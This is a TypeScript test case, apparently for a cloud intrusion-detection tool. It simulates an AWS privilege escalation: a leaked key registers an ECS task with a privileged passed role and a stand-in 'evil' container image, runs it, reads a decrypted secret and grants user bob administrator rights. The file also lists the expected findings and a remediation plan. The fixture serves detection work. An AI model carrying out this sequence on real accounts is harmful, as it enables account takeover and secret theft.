import { appAccount, sessionOf } from '../cloud.ts';
import { bob, deactivate, key, leaked, told, type Story } from '../story.ts';

const inFargate = { from: '54.240.1.2', client: 'Boto3/1.34' };
const taskId = '0123456789abcdef0123456789abcdef';
const definition = `arn:aws:ecs:us-east-1:${appAccount}:task-definition/tool:1`;

export const taskWithPassedRole: Story = {
  name: 'a container task is registered with a role of more rights and run, reads a secret, and makes bob administrator',
  records: told((intruder, cloud) => {
    // The same role works in a service's task all along: that is not the intruder.
    for (let day = -7; day <= 0; day += 1) {
      const service = sessionOf(
        appAccount,
        'ecs-admin',
        'fedcba9876543210fedcba9876543210',
        `ASIASERVICE000000${day + 17}`,
      );
      cloud.call(service, 'dynamodb:DescribeTable', { at: day * 86_400 + 1100, ...inFargate });
    }
    intruder.call(
      leaked,
      'ecs:RegisterTaskDefinition',
      {
        family: 'tool',
        taskRoleArn: `arn:aws:iam::${appAccount}:role/ecs-admin`,
        containerDefinitions: [{ name: 'tool', image: 'docker.io/evil/tool:latest' }],
      },
      { response: { taskDefinition: { taskDefinitionArn: definition, family: 'tool', revision: 1 } } },
    );
    intruder.call(
      leaked,
      'ecs:RunTask',
      { cluster: 'prod', taskDefinition: 'tool:1', launchType: 'FARGATE' },
      {
        response: {
          tasks: [
            { taskArn: `arn:aws:ecs:us-east-1:${appAccount}:task/prod/${taskId}`, taskDefinitionArn: definition },
          ],
          failures: [],
        },
      },
    );
    const session = sessionOf(appAccount, 'ecs-admin', taskId, 'ASIATASK000000000009');
    intruder.call(session, 'ssm:GetParameter', { name: '/prod/token', withDecryption: true }, inFargate);
    intruder.call(
      session,
      'iam:AttachUserPolicy',
      { userName: 'bob', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      inFargate,
    );
  }),
  cases: [
    {
      accounts: 1,
      identities: [bob, 'used session ecs-admin'],
      links: ['user bob passed-role session ecs-admin'],
      findings: ['administrator-granted', 'code-planted', 'secrets-taken', 'way-in-still-open'],
      waysIn: [
        key,
        'open code',
        'open code',
        'open grant to user bob',
        'open session of role ecs-admin until 2026-11-20T21:17:00',
      ],
      stages: [
        'ecs:RegisterTaskDefinition persistence',
        'ecs:RunTask escalation',
        'iam:AttachUserPolicy escalation',
        'ssm:GetParameter credential access',
      ],
      plan: [
        deactivate,
        'removeCode',
        'removeCode',
        'revokeRoleSessions of ecs-admin',
        'rotateSecret',
        'takePolicyAway of user bob',
      ],
    },
  ],
};
